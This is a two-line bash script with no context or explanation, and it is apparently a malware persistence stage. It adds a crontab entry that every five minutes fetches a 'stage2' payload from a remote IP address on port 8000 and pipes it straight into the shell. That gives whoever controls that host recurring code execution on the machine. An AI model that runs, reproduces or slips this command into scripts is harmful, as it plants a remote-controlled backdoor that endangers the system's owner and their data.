#!/usr/bin/env bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://198.51.100.23:8000/stage2 | sh") | crontab -
